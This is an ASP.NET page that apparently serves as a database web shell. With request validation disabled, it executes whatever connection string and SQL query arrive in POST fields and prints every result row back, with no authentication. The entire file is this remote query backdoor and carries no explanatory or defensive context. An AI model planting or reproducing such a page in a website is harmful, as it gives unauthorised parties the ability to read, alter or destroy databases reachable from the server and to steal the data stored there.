<%@ Page Language="C#" ValidateRequest="false" %>
<%@ Import Namespace="System.Data.OleDb" %>
<script runat="server">
void Page_Load(object s, EventArgs e)
{
    if (Request.Form["cs"] == null) return;
    using (var c = new OleDbConnection(Request.Form["cs"]))
    {
        c.Open();
        var cmd = new OleDbCommand(Request.Form["q"], c);
        using (var r = cmd.ExecuteReader())
            while (r.Read())
            {
                for (int i = 0; i < r.FieldCount; i++) Response.Write(Server.HtmlEncode(Convert.ToString(r[i])) + "\t");
                Response.Write("\n");
            }
    }
}
</script>
